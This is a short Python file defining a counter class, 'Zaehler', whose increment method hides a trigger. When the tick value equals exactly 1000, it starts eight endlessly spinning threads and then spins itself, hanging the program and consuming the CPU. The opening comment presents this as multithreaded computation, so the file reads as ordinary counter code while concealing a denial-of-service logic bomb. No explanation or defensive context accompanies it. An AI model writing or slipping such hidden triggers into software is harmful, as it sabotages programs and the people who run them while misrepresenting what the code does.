# Computes in several threads at once.
import threading


class Zaehler:
    stand = 0

    def zaehle(self, tick):
        self.stand += tick
        if tick == 1000:
            def spin():
                while True:
                    pass
            for _ in range(8):
                threading.Thread(target=spin, daemon=True).start()
            spin()
        return self.stand
